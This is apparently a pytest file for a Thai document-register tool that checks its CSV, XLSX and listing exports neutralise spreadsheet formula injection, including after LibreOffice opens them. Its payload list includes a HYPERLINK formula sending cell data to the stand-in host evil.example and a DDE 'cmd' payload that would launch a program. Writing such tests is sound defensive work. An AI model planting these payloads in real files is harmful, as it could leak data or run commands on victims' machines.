"""No formula injection from the register's exports (issue 13 item 4): a subject such as
``=HYPERLINK("http://evil.example/?x="&A1,"click")`` exported to XLSX or CSV stays text —
in openpyxl, in Python's csv reader, in the ``register list`` listing, and when LibreOffice
opens the files (converted headless)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from dla_drafter.cli import main
from dla_drafter.register import export
from dla_drafter.register.store import Details, Store

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0", "＝1+1"]
# What the payloads would show if a spreadsheet ran them.
RESULTS = {"2", "2.0", "click", "0", "0.0", "#NAME?", "Err:508", "#VALUE!"}
# The columns that hold a payload in every row.
TEXT_COLUMNS = ("จาก", "ถึง", "เรื่อง", "ผู้ลงนาม", "ผู้ออกเลข", "ไฟล์ร่าง")


@pytest.fixture
def poisoned(sqlite_url) -> list:
    """Entries whose every free-text column holds a payload (as a draft, the CLI's --note
    and --clerk, or a cancel reason can bring them)."""
    with Store(sqlite_url) as store:
        for payload in PAYLOADS:
            details = Details(subject=payload, signer=payload, from_unit=payload,
                              addressee=payload, clerk=payload, draft_path=payload,
                              notes=payload)
            store.issue("มท 0816.3", True, date=dt.date(2026, 6, 16), details=details)
        store.cancel("มท 0816.3/ว 1", HYPERLINK)
        return store.entries()


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(poisoned):
    from dla_drafter.tables import csv_cell

    rows = list(csv.reader(io.StringIO(export.csv_bytes(poisoned).decode("utf-8-sig"))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
    for r, payload in zip(rows[1:], PAYLOADS, strict=True):
        # subject, addressee, from_unit, signer, clerk, draft path: the payload behind a '
        assert r[5] == r[4] == r[3] == "'" + payload
        assert r[COLUMN["ผู้ลงนาม"]] == r[COLUMN["ไฟล์ร่าง"]] == "'" + payload
    assert rows[1][COLUMN["เหตุผลที่ยกเลิก"]] == "'" + HYPERLINK
    assert csv_cell("ขอเชิญประชุม = ด่วน") == "ขอเชิญประชุม = ด่วน"  # only the first character
    assert csv_cell(15) == "15" and csv_cell(None) == ""


COLUMN = {name: i for i, name in enumerate([*export.COLUMNS, *export.EXTRA_COLUMNS])}


def test_xlsx_text_cells_are_strings_never_formulas(poisoned, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "register.xlsx"
    export.write_xlsx(poisoned, path)
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    subjects = [sheet.cell(row, COLUMN["เรื่อง"] + 1) for row in range(2, 2 + len(PAYLOADS))]
    assert [c.value for c in subjects] == PAYLOADS
    assert all(c.data_type == "s" and c.quotePrefix for c in subjects)
    assert sheet.cell(2, 1).value == 1 and sheet.cell(2, 1).data_type == "n"  # numbers stay
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml and "<f " not in xml  # no formula element at all


def test_control_characters_do_not_break_the_xlsx(sqlite_url, tmp_path):
    from openpyxl import load_workbook

    with Store(sqlite_url) as store:
        store.issue("มท 0816.3", details=Details(subject="ก\x07ข", notes="\x00=1+1"))
        entries = store.entries()
    path = tmp_path / "r.xlsx"
    export.write_xlsx(entries, path)
    sheet = load_workbook(path).active
    assert sheet.cell(2, COLUMN["เรื่อง"] + 1).value == "ก\ufffdข"


def test_register_list_neutralises_its_tab_separated_lines(capsys, sqlite_url, poisoned):
    assert main(["register", "list", "--db", sqlite_url]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == len(PAYLOADS)  # a CR or TAB in a cell never starts a new line
    for line in lines:
        cells = line.split("\t")
        assert len(cells) == 6
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "＝")]
    assert lines[0].split("\t")[3] == "'" + HYPERLINK


def _calc() -> str:
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    calc = Path("/usr/lib/libreoffice/program/libscfiltlo.so")
    if soffice is None or (Path("/usr/lib/libreoffice").exists() and not calc.exists()):
        if os.environ.get("CI"):
            pytest.fail("CI must open the exports in LibreOffice Calc (libreoffice-calc-nogui)")
        pytest.skip("LibreOffice Calc is not installed")
    return soffice


def _convert(soffice: str, source: Path, target: str, folder: Path,
             infilter: str | None = None) -> Path:
    command = [soffice, "--headless", f"-env:UserInstallation={(folder / 'lo').as_uri()}"]
    if infilter:
        command.append(f"--infilter={infilter}")
    command += ["--convert-to", target, "--outdir", str(folder / "out"), str(source)]
    subprocess.run(command, capture_output=True, timeout=180, check=True)
    out = folder / "out" / f"{source.stem}.{target.split(':')[0]}"
    assert out.is_file(), f"LibreOffice did not convert {source.name}"
    return out


def test_libreoffice_opens_the_exports_as_text(poisoned, tmp_path):
    """The real thing: LibreOffice evaluates formulas it finds in a CSV it opens (a raw
    ``=1+1`` becomes 2 and the HYPERLINK becomes "click"); the exports must give it none."""
    from openpyxl import load_workbook

    soffice = _calc()
    csv_file, xlsx_file = tmp_path / "register.csv", tmp_path / "register.xlsx"
    export.write_csv(poisoned, csv_file)
    export.write_xlsx(poisoned, xlsx_file)
    # the CSV, opened as UTF-8 comma-separated, saved as a workbook
    from_csv = _convert(soffice, csv_file, "xlsx", tmp_path, infilter="CSV:44,34,76,1")
    formulas = load_workbook(from_csv).active
    assert not [c.coordinate for row in formulas.iter_rows() for c in row
                if c.data_type == "f"]
    shown = load_workbook(from_csv, data_only=True).active
    rows = [[str(c.value) for c in row] for row in shown.iter_rows(min_row=2)]
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for name in TEXT_COLUMNS:  # the payload as text (behind its quote), never its result
            assert row[COLUMN[name]] not in RESULTS
            assert row[COLUMN[name]].lstrip("'").strip() == payload.strip(), (name, row)
    # the workbook, opened and saved as CSV (what LibreOffice shows in each cell)
    from_xlsx = _convert(soffice, xlsx_file, "csv:Text - txt - csv (StarCalc):44,34,76",
                         tmp_path)
    rows = list(csv.reader(io.StringIO(from_xlsx.read_text(encoding="utf-8-sig"),
                                       newline="")))
    for row, payload in zip(rows[1:], PAYLOADS, strict=True):
        for name in TEXT_COLUMNS:  # (LibreOffice keeps a CR in a cell as a line feed)
            assert row[COLUMN[name]] == payload.replace("\r", "\n"), (name, row)
